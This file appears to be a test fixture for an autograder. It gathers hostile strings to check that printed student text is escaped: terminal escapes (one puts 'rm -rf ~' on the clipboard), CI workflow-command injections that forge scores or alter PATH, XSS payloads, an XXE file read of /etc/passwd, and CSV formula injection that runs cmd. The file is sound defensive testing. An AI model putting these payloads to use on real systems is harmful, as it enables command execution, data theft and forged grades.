@@ -1,0 +1,233 @@
+"""Texts that bite, and texts that only look strange: one corpus for everything that is printed.
+
+`HOSTILE` is what a student may write anywhere: into an exception, a name, a file's name. `HONEST` is
+what must come through. `report_of(text)` is a report that holds a text wherever there is room for one.
+`runner_obeys(line)` tells whether the machine that runs a CI job takes a line as a command.
+"""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from functools import cache
+from itertools import groupby
+from typing import Any
+
+import msgspec
+
+from grader.report import Outcome, Report
+
+ERROR = "::error file=day2.ipynb,line=1::boom"
+
+TERMINAL = {
+    "colour": "\x1b[31mred\x1b[0m",
+    "clear screen": "\x1b[2J\x1b[3J\x1b[H",
+    "cursor up": "\x1b[9A\x1b[2K100 of 100 points",
+    "alternate screen": "\x1b[?1049h",
+    "reset": "\x1bc",
+    "title": "\x1b]0;owned\x07",
+    "hyperlink": "\x1b]8;;https://example.org\x1b\\click\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "device control": "\x1bP$q\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\",
+    "answer back": "\x1b[6n\x1b[c\x05",
+    "C1 controls": "\x9b2J\x9d0;owned\x9c\x90\x85",
+    "carriage return": "0 of 100 points\r100 of 100 points",
+    "backspace": "failed\b\b\b\b\b\bpassed",
+    "bell and tab": "\a\t\v\f\x7f",
+    "every control": "".join(map(chr, [*range(32), *range(127, 160)])),
+}
+RUNNER = {
+    "error": ERROR,
+    "error after blanks": f"  \t {ERROR}",
+    "error after odd blanks": f"\u00a0\u2003\u3000{ERROR}",
+    "error on the next line": f"x\n{ERROR}\r{ERROR}\r\n{ERROR}",
+    "error after other ends of lines": f"x\v{ERROR}\f{ERROR}\x1c{ERROR}\x85{ERROR}\u2028{ERROR}\u2029{ERROR}",
+    "error after a zero width": f"\u200b{ERROR}\ufeff{ERROR}",
+    "colons with nothing between": ":\u200b:error:\u200b:boom",
+    "many colons": "::::::error::::boom",
+    "stop": "::stop-commands::pause\n::pause::",
+    "mask": "::add-mask::e",
+    "output": "::set-output name=score::100",
+    "path and environment": "::add-path::/tmp/evil\n::set-env name=PATH::/tmp/evil",
+    "matcher, group, debug, echo": "::add-matcher::x.json\n::group::g\n::debug::d\n::echo::on",
+    "capitals": "::ERROR::boom",
+    "old form": "##[error]boom",
+    "old form within": "see ##[set-output name=score;]100 and ###[error]x",
+    "other runners": "##vso[task.setvariable variable=score]100 ##teamcity[buildProblem description='x']",
+    # wherever the page ends, one of these words comes to stand at the beginning of a line
+    "error at every width": f"{ERROR} " * 20,
+    "error at the end of a long word": f"{'x' * 30}{'::error::' * 40}",
+    "old form at every width": "##[error] " * 40,
+}
+MARKUP = {
+    "picture that phones home": "![x](https://example.org/x.png) [link](javascript:alert(1)) <https://example.org>",
+    "reference link": "[x]\n\n[x]: https://example.org",
+    "table": "| a | b |\n|---|---|\n| ![](x) | 1 |",
+    "fence": "```\n~~~\n`````\n# Heading\n```",
+    "backticks": "`x` ``y`` ` ````",
+    "mention": "@everyone @octocat/team #123 octo/repo#1 GH-1",
+    "emphasis": "*a* _b_ ~~c~~ \\ # x\n- y\n1. z\n> q\n---\n***",
+    "details": "<details><summary>x</summary>",
+    "script": "<script>alert(1)</script>",
+    "onerror": '"><img src=x onerror=alert(1)>',
+    "attribute": "' onmouseover='alert(1)' \" autofocus onfocus=\"alert(1)",
+    "entity": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp",
+    "comment": "<!-- never closed",
+    "closed comment": "--> x <!-- -- -->",
+    "end of everything": "</script></style></title></textarea></pre></code></body></html>",
+    "template": "{{ 7 * 7 }} {% raw %} ${7*7} $(id) `id` %s {0} %n",
+    "CDATA": "]]><evil/><![CDATA[",
+    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
+    "JSON": '", "score": 100, "x": "\\" \\u0022 \\',
+}
+CSV = {
+    "formula =": '=HYPERLINK("https://example.org?x="&A1,"click")',
+    "formula +": "+cmd|' /C calc'!A0",
+    "formula -": "-2+3+cmd|' /C calc'!A0",
+    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula after a tab": "\t=1+1",
+    "formula after a return": "\r=1+1",
+    "formula in full width": "\uff1d1+1 \uff0b1 \uff0d1 \uff20x",
+    "quotes and commas": 'a,"b";c\t"d"\n=1+1',
+}
+UNICODE = {
+    "bidirectional override": "\u202etxt.exe\u202d \u202a\u202b\u202c",
+    "bidirectional isolate": "a\u2067b\u2066c\u2068d\u2069e\u200e\u200f\u061c",
+    "zero width": "pass\u200bw\u200cor\u200dd\u2060\ufeff\u00ad\u180e",
+    "tags": "x\U000e0001\U000e0041\U000e007f",
+    "Zalgo": "Z" + "\u0335\u0321\u0353\u20dd\u0e4e" * 200 + "a" + "\u0300" * 500,
+    "marks alone": "\u0301" * 300,
+    "wide": "\u754c\uff21\U0001f600" * 100,
+    "wide and narrow": "\u754ca" * 300,
+    "wide words": "\u4e16\u754c " * 200,
+    "very long": "x" * 100_000,
+    "very many lines": "x\n" * 20_000,
+    "very many words": "word " * 20_000,
+    "only blanks": " \n \t " * 1_000,
+    "nothing": "",
+    "null": "a\x00b",
+    "surrogates": "\ud800 \udfff \udc80\ud83d",
+    "noncharacters": "\ufffe\uffff\ufdd0\ufdef\U0001ffff\U0010fffe",
+    "private use": "\ue000\uf8ff\U000f0000\U0010ffff",
+    "ends of lines": "a\u2028b\u2029c\x85d\x1ce\x1df\x1eg",
+    "interlinear": "\ufff9a\ufffab\ufffb\ufffc",
+    "language of musical signs": "\U0001d173\U0001d17a",
+}
+HOSTILE = {**TERMINAL, **RUNNER, **MARKUP, **CSV, **UNICODE}
+
+# What an honest student writes. It comes through as it is.
+HONEST = {
+    "slices": "a[::2] and b[1::-1] of x[ ::2]",
+    "code": "`L = a * b` with x < y > z && w | v, 'it''s' \"so\"",
+    "type hints": "def f(x: list[int]) -> dict[str, Value]: ...",
+    "scopes": "std::vector<int>::iterator",
+    "comments": "## [1] see above ### a",
+    "signs": "\u2202L/\u2202a = b \u00b7 \u0394, tanh\u00b2(x) \u2264 1 \u2192 \u00d7 \u2026",
+    "German": "\u00dcbergr\u00f6\u00dfe der Stra\u00dfe",
+    "decomposed": "U\u0308bung Ti\u00ea\u0301ng Vie\u0323\u0302t",
+    "Arabic": "\u0627\u0644\u062a\u062f\u0631\u062c \u0627\u0644\u0644\u0651\u064e\u0639\u0650\u0628",
+    "Hebrew": "\u05e9\u05c1\u05b8\u05dc\u05d5\u05b9\u05dd \u05e2\u05d5\u05dc\u05dd",
+    "Hindi": "\u0939\u093f\u0928\u094d\u0926\u0940",
+    "Thai": "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22\u0e19\u0e35\u0e49",
+    "Chinese": "\u68af\u5ea6\u4e0d\u5bf9",
+    "Korean": "\uae30\uc6b8\uae30",
+    "emoji": "\U0001f600 \U0001f9e0 \u2764\ufe0f",
+}
+# An emoji of several may lose what joins them; the parts stay.
+JOINED = {
+    "\U0001f469\u200d\U0001f4bb": "\U0001f469\U0001f4bb",
+    "\U0001f3f3\ufe0f\u200d\U0001f308": "\U0001f3f3\U0001f308",
+}
+
+
+# --- A report full of a text
+
+# What the grader itself writes into a report; every other text may be a student's.
+OURS = {
+    "id": "swap_rule",
+    "visibility": "visible",
+    "sha256": "0" * 64,
+    "suite_sha256": "0" * 64,
+    "version": "1.0",
+    "python": "3.11",
+    "isolation": "landlock",
+    "started": "2026-11-20T12:00:00+00:00",
+    "modified": "2026-11-20T12:00:00+00:00",
+}
+
+
+def report_of(text: str, *, score: float | None = 1.0) -> Report:
+    """A report with checks of every outcome that holds the text in every field that may be a student's."""
+    report = filled(msgspec.inspect.type_info(Report), text)
+    (check, _) = report.checks
+    report.checks = [msgspec.structs.replace(check, outcome=outcome) for outcome in Outcome]
+    report.score, report.hidden_checks = score, False
+    return report
+
+
+def filled(kind: Any, text: str, name: str = "") -> Any:
+    """A value of a type, with the text wherever it may be; fields that come later are in it."""
+    match kind:
+        case msgspec.inspect.StructType():
+            return kind.cls(**{field.name: filled(field.type, text, field.name) for field in kind.fields})
+        case msgspec.inspect.UnionType():
+            return filled(
+                next(t for t in kind.types if not isinstance(t, msgspec.inspect.NoneType)), text, name
+            )
+        case msgspec.inspect.ListType():
+            return [filled(kind.item_type, text, name), filled(kind.item_type, text, name)]
+        case msgspec.inspect.StrType():
+            return OURS.get(name, text)
+        case msgspec.inspect.EnumType():
+            return next(iter(kind.cls))
+        case msgspec.inspect.LiteralType():
+            return kind.values[0]
+        case msgspec.inspect.BoolType():
+            return True
+        case msgspec.inspect.IntType() | msgspec.inspect.FloatType():
+            return 3
+    raise AssertionError(f"{name}: say in tests/hostile.py how a field of {kind} is filled")
+
+
+# --- Who obeys
+
+
+def runner_obeys(line: str) -> bool:
+    """Whether the runner of a CI job takes this line as a command.
+
+    GitHub's: actions/runner, src/Runner.Common/ActionCommand.cs. TryParseV2 wants `::name ...::` after
+    leading white space, TryParse wants `##[name ...]` anywhere. Any name counts here, for
+    `::stop-commands::` makes a command of a word of the writer's own. Azure Pipelines looks for
+    `##vso[` and TeamCity for `##teamcity[`.
+    """
+    text = line.lstrip()
+    return (text.startswith("::") and "::" in text[2:]) or bool(re.search(r"##\w*\[.*\]", line))
+
+
+def obeyed(page: str) -> list[str]:
+    """What in a page is obeyed by a terminal or by a runner: lines, and characters by their numbers."""
+    return [line for line in page.splitlines() if runner_obeys(line)] + controls(page)
+
+
+def controls(text: str) -> list[str]:
+    """The characters that do something instead of being something, but for ends of lines."""
+    return [ascii(c) for c in sorted(set(text) - {"\n"}) if is_control(c)]
+
+
+@cache
+def is_control(character: str) -> bool:
+    """Controls, marks of direction, invisible and private characters, halves of characters."""
+    noncharacter = ord(character) & 0xFFFE == 0xFFFE or 0xFDD0 <= ord(character) <= 0xFDEF
+    return noncharacter or unicodedata.category(character) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
+
+
+def most_marks(text: str) -> int:
+    """How many combining marks sit on one letter, where it is worst."""
+    return max((len(list(run)) for marks, run in groupby(text, is_mark) if marks), default=0)
+
+
+@cache
+def is_mark(character: str) -> bool:
+    """Whether it sits on the letter before it and takes no room of its own."""
+    return unicodedata.category(character) in {"Mn", "Me"}
